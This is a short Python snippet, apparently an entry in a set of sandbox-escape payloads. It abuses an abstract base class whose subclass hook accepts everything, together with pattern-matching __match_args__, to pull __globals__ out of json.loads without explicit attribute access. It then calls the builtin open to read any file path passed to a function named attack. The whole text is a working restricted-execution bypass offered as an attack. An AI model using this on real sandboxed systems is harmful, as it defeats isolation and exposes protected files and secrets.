# Instead of `register` the class says by itself who is one of it.
# after: read
# source: own
import json
from abc import ABC
class U(ABC):
    __match_args__ = ("__globals__",)
    @classmethod
    def __subclasshook__(cls, other):
        return True
def attack(path, **_):
    match json.loads:
        case U(found):
            return {"text": found["__builtins__"]["open"](path).read()}
